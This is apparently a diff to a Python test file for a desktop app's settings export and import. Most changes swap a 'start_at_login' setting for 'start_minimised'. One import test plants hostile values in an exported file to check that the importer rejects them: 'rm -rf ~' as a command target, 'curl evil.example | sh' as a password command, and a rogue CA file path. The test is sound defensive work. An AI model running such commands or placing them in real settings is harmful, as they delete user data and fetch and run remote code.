@@ -33,7 +33,7 @@ def lived(tmp_path):
     app.settings_file.write(
         replace(
             Settings(), language="ja", quiet_hours=True, second_channel="webhook", second_channel_target=WEB_HOOK,
-            start_at_login=True, window={"width": 900},
+            start_minimised=True, window={"width": 900},
         )
     )  # fmt: skip
     yield lived
@@ -71,7 +71,7 @@ def test_no_secret_goes_out(lived, exported):
 def test_every_setting_is_either_taken_along_or_left_for_a_reason():
     left = {one for one in Settings.__dataclass_fields__ if one not in TAKEN_ALONG}
     assert left == {
-        "window", "start_at_login", "start_minimised", "told_close_to_tray", "told_no_tray", "second_channel",
+        "window", "start_minimised", "told_close_to_tray", "told_no_tray", "second_channel",
         "second_channel_target", "second_channel_details",
     }  # fmt: skip
 
@@ -117,7 +117,7 @@ def test_an_account_that_is_here_keeps_its_server(lived, exported, other):
 
 def test_no_command_and_no_web_hook_comes_in(exported, other):
     told = json.loads(exported.read_text())
-    told["settings"] |= {"second_channel": "command", "second_channel_target": "rm -rf ~", "start_at_login": True}
+    told["settings"] |= {"second_channel": "command", "second_channel_target": "rm -rf ~", "start_minimised": True}
     told["accounts"][0] |= {"password_command": "curl evil.example | sh", "ca_file": "/tmp/evil.pem", "id": "a1"}
     exported.write_text(json.dumps(told))
     other.data_mover.take_in(other.data_mover.preview(exported))
